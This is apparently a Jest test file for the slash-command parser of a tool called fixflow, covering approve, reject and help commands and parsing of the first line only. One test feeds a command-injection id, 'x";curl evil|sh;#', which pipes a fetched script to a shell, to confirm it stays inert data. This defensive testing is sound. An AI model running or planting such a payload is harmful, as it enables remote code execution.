import { describe, expect, it } from '@jest/globals'
import { FAILURE_ID, parseCommand } from '../src/event/grammar.js'

describe('parseCommand', () => {
  it('reads approve with and without an id', () => {
    expect(parseCommand('/fixflow approve')).toEqual({ verb: 'approve' })
    expect(parseCommand('/fixflow approve 123-1\nthanks!')).toEqual({ verb: 'approve', id: '123-1' })
    expect(parseCommand('  /fixflow   APPROVE   123-2  ')).toEqual({ verb: 'approve', id: '123-2' })
  })

  it('only reads the first line, and only when it starts with the command', () => {
    expect(parseCommand('looks good\n/fixflow approve')).toBeUndefined()
    expect(parseCommand('> /fixflow approve 1-1')).toBeUndefined()
    expect(parseCommand('/fixflowapprove')).toBeUndefined()
    expect(parseCommand('`/fixflow approve`')).toBeUndefined()
  })

  it('keeps a hostile id as data that no id pattern accepts', () => {
    const c = parseCommand('/fixflow approve x";curl evil|sh;#')
    expect(c).toEqual({ verb: 'approve', id: 'x";curl' })
    expect(FAILURE_ID.test('x";curl')).toBe(false)
  })

  it('splits reject into id and reason', () => {
    expect(parseCommand('/fixflow reject 42-1 wrong package')).toEqual({
      verb: 'reject',
      id: '42-1',
      reason: 'wrong package'
    })
    expect(parseCommand('/fixflow reject not needed')).toEqual({ verb: 'reject', reason: 'not needed' })
    expect(parseCommand('/fixflow reject')).toEqual({ verb: 'reject' })
  })

  it('answers help and anything else with help', () => {
    expect(parseCommand('/fixflow help')).toEqual({ verb: 'help' })
    expect(parseCommand('/fixflow')).toEqual({ verb: 'unknown', text: '/fixflow' })
    expect(parseCommand('/fixflow merge now')).toEqual({ verb: 'unknown', text: '/fixflow merge now' })
  })
})
